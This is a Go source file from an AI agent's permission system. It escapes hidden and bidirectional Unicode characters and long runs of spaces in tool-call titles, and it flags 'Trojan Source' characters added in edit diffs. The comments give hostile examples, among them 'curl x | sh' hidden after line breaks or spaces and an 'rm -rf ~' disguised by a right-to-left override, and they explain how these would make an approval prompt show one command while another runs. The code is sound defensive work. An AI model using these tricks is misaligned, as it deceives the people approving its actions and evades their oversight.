package agent

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// visibleLine is s as one line whose every character shows: a tool call's
// title, which the permission question shows and the user approves by.
// It comes from the model's arguments (a command line, a path, a URL),
// and clients show a title on one line, often cut at its first line
// break, and lay its text out by the Unicode bidirectional algorithm. So
// "echo safe" followed by 24 line breaks and "curl x | sh", or a right-
// to-left override that shows "rm -rf ~ # txt.a" backwards, would ask
// about one thing and run another. Line breaks become "⏎"; other control
// characters, format characters (bidi overrides and isolates, zero-width
// characters, the BOM) and line and paragraph separators are written as
// \uXXXX escapes, and so are spaces other than U+0020 and characters
// that render blank; a run of eight spaces or more is written "␠×N".
// Nothing is dropped, so what is shown stays exact.
func visibleLine(s string) string {
	clean := !strings.Contains(s, spaceRun)
	for _, r := range s {
		if blankInTitle(r) {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == ' ':
			// A long run of spaces pushes the rest of the line past
			// where a client cuts its one line: "ls", 500 spaces, then
			// "; curl x | sh". It shows as its length.
			j := i
			for j < len(s) && s[j] == ' ' {
				j++
			}
			if j-i >= len(spaceRun) {
				fmt.Fprintf(&b, "␠×%d", j-i)
			} else {
				b.WriteString(s[i:j])
			}
			i = j
			continue
		case r == '\n':
			b.WriteString("⏎")
		case blankInTitle(r):
			fmt.Fprintf(&b, `\u%04X`, r)
		default:
			b.WriteRune(r)
		}
		i += n
	}
	return b.String()
}

// spaceRun is the shortest run of spaces a title shows as its length.
const spaceRun = "        "

// blankInTitle reports whether r, in a title, does not show as itself:
// hidden, a space other than U+0020 (a no-break or ideographic space
// reads as a word break the shell does not make), or a character that
// renders blank (the Hangul fillers, the braille blank).
func blankInTitle(r rune) bool {
	switch r {
	case '\u115f', '\u1160', '\u3164', '\uffa0', '\u2800':
		return true
	}
	return hidden(r) || r != ' ' && unicode.Is(unicode.Zs, r)
}

// hidden reports whether r does not show as itself on one line.
func hidden(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r)
}

// hiddenNote is a note for the user when an edit's new text (a diff of
// the call's preview) holds characters that do not show, or that change
// the order in which the text around them shows, more often than its old
// text did: bidi overrides and isolates, zero-width characters, other
// format and control characters, a lone CR. A diff shows them as they
// act, so an approved change can read otherwise than it compiles
// ("Trojan Source": a right-to-left override turns an early return into
// what looks like a comment). The note names each, as U+XXXX, with the
// first line of the new text that holds it. "" when there is none.
func hiddenNote(preview []ToolContent) string {
	var notes []string
	for _, c := range preview {
		if c.Diff == nil {
			continue
		}
		old := ""
		if c.Diff.OldText != nil {
			old = *c.Diff.OldText
		}
		before := hiddenCounts(old)
		var found []string
		for i, line := range strings.Split(strings.ReplaceAll(c.Diff.NewText, "\r\n", "\n"), "\n") {
			rtl := strings.IndexFunc(line, rightToLeft) >= 0
			prev := rune(0)
			for _, r := range line {
				p := prev
				prev = r
				if !hiddenInText(r) || before[r] < 0 || writingMark(r, p, rtl) {
					continue
				}
				if before[r] > 0 {
					before[r]-- // one the old text had
					continue
				}
				before[r] = -1 // named once
				found = append(found, fmt.Sprintf("U+%04X%s at line %d", r, hiddenName(r), i+1))
			}
		}
		if len(found) > 0 {
			if len(found) > 8 {
				found = append(found[:8], "…")
			}
			notes = append(notes, fmt.Sprintf("%s: %s", c.Diff.Path, strings.Join(found, ", ")))
		}
	}
	if len(notes) == 0 {
		return ""
	}
	return "⚠ The new text holds characters that do not show, or that change the order in which the text around them shows, so the diff may read otherwise than the file does: " +
		strings.Join(notes, "; ") + "."
}

// hiddenCounts counts the hidden characters of a text.
func hiddenCounts(s string) map[rune]int {
	n := map[rune]int{}
	for _, r := range strings.ReplaceAll(s, "\r\n", "\n") {
		if hiddenInText(r) {
			n[r]++
		}
	}
	return n
}

// hiddenInText reports whether r, in a file's text, does not show as
// itself: hidden, but for line breaks and tabs (a CR of a CRLF is taken
// out before), and the zero-width joiner of emoji sequences.
func hiddenInText(r rune) bool {
	return r != '\n' && r != '\t' && r != '\u200d' && hidden(r)
}

// writingMark reports whether r, a hidden character after prev on a
// line that holds right-to-left letters or not (rtl), is one that text
// in some languages is written with: the zero-width non-joiner after a
// letter of a script that joins (Persian writes it inside words, Indic
// scripts between consonants), and the left-to-right, right-to-left and
// Arabic letter marks in a line of Arabic or Hebrew (translations set
// where punctuation goes with them). Neither hides or reorders code as
// the overrides and isolates do; in ASCII text they are still named.
func writingMark(r, prev rune, rtl bool) bool {
	switch r {
	case '\u200c':
		return prev >= utf8.RuneSelf && (unicode.IsLetter(prev) || unicode.IsMark(prev))
	case '\u200e', '\u200f', '\u061c':
		return rtl
	}
	return false
}

// rightToLeft reports whether r is a letter of a right-to-left script.
func rightToLeft(r rune) bool {
	return r >= 0x0590 && unicode.IsLetter(r) &&
		unicode.In(r, unicode.Hebrew, unicode.Arabic, unicode.Syriac, unicode.Thaana, unicode.Nko, unicode.Samaritan, unicode.Mandaic)
}

// hiddenName names the characters of "Trojan Source" attacks.
func hiddenName(r rune) string {
	switch r {
	case '\u202a', '\u202b', '\u202d', '\u202e':
		return " (bidi embedding or override)"
	case '\u2066', '\u2067', '\u2068':
		return " (bidi isolate)"
	case '\u202c', '\u2069':
		return " (end of a bidi embedding or isolate)"
	case '\u200e', '\u200f', '\u061c':
		return " (bidi mark)"
	case '\u200b', '\u200c', '\u2060', '\ufeff':
		return " (zero-width)"
	case '\r':
		return " (carriage return)"
	}
	return ""
}
